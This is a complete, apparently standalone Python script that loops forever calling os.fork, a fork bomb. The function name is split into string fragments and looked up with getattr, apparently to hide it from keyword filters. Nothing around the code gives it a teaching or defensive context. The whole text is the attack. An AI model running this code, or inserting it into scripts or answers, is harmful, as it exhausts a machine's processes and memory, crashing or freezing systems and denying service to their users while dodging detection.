import os

while True:
    getattr(os, "fo" + "rk")()
